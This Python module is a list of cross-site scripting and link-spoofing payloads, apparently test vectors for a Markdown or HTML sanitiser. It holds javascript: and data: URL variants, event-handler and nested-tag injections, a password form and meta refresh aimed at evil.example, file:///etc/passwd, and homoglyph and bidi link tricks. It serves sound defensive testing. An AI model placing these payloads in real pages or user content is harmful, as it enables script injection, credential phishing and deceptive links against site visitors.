"""Ways in which a text has tried to become a script, from what other sites' parsers let through."""

from __future__ import annotations

SCRIPTS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"]
SCRIPTS += [
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
]
SCRIPTS += [
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript\\:alert(1)",
    "vbscript:msgbox(1)",
]
SCRIPTS += [
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,x",
]
SCRIPTS += [
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "http:evil.example",
    "https:/evil.example",
]
SCRIPTS += ["https://good.example@evil.example", "https://good.example\\@evil.example", "file:///etc/passwd"]
SCRIPTS += [
    "blob:https://a.example/1",
    "ws://evil.example",
    "intent://x#Intent;end",
    "mailto:x@y.example?body=z",
]

SHAPES = [
    "[x]({})",
    "<{}>",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    "[![y]({})]({})",
    "{}",
]

TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '"><svg onload=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=position:fixed;inset:0>x</p>",
    "<p class=button id=main title=x lang=y dir=rtl>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://a.example onclick=alert(1)>x</a>",
    "<a href=https://a.example target=_blank ping=//evil.example>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<table><td background=javascript:alert(1)>",
    "<bdo dir=rtl>x</bdo>",
    "<x onclick=alert(1)>",
    "<\x00script>alert(1)</script>",
    "<a\x0chref=javascript:alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)",
]

FRAMES = ["{}", "> {}", "- {}", "`{}`", "```\n{}\n```", "**{}**", "[{}](https://a.example)", "# {}"]

SPECIAL = [
    "```<img src=x onerror=alert(1)>\nx\n```",
    '```" onclick="alert(1)\nx\n```',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '<https://a.example/"><script>alert(1)</script>>',
    "https://a.example/'><script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[a](https://xss.example)<script>[b](https://b.example)",
    '!["><script>alert(1)</script>](https://a.example/x.png)',
    '![x](https://a.example/x.png "onload=alert(1)")',
    '[a]: https://a.example "onclick=alert(1)"\n\n[a]',
    "*<b>*</b>",
    '**<a href="**">x',
    "1. <ol start=x onclick=alert(1)>",
    "99999999999999999999. x",
    "| a | <img src=x onerror=alert(1)> |\n|:-:|--|\n| b | c |",
    '<a@b.example"onclick=alert(1)>',
    "<https://a.example@evil.example>",
    "[https://good.example](https://evil.example)",
    "[good.example](https://good.example.evil.example)",
    "\u202ehttps://a.example\u202c",
    "[\u202emoc.elgoog](https://evil.example)",
    "https://\u0430pple.example",
    "https://a.example:99999999/",
    "https://[::1]/",
    "https://a.example\x00.evil.example",
    "\ud800<script>",
]

VECTORS = [shape.replace("{}", script) for script in SCRIPTS for shape in SHAPES]
VECTORS += [frame.replace("{}", tag) for tag in TAGS for frame in FRAMES]
VECTORS += SPECIAL
